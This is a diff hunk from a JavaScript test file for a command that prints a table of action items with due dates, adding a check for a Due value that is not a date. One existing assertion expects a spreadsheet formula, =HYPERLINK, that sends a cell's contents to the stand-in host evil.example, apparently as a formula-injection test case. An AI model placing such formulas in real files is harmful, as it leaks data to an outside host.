@@ -53,6 +53,8 @@ describe('coe actions: table', () => {
     expect(r.stdout).toMatch(/COE-2025-009 {2}AI-1 {3}=HYPERLINK\("http:\/\/evil\.example\/\?d="&A1,…/);
     for (const date of ['2025-11-15', '2025-11-16', '2025-11-17', '2025-09-01', '2026-03-01']) expect(r.stdout).toContain(date);
     expect(r.stdout).toContain('COE-2025-000  AI-1   Retry in-flight notifications');
+    // A Due that is not a date, as written.
+    expect(r.stdout).toMatch(/COE-2025-000 {2}AI-2 {3}Page on stuck deliveries .* next week +open\n/);
     expect(lines.at(-2)).toBe('11 action items, 4 overdue');
   });
 
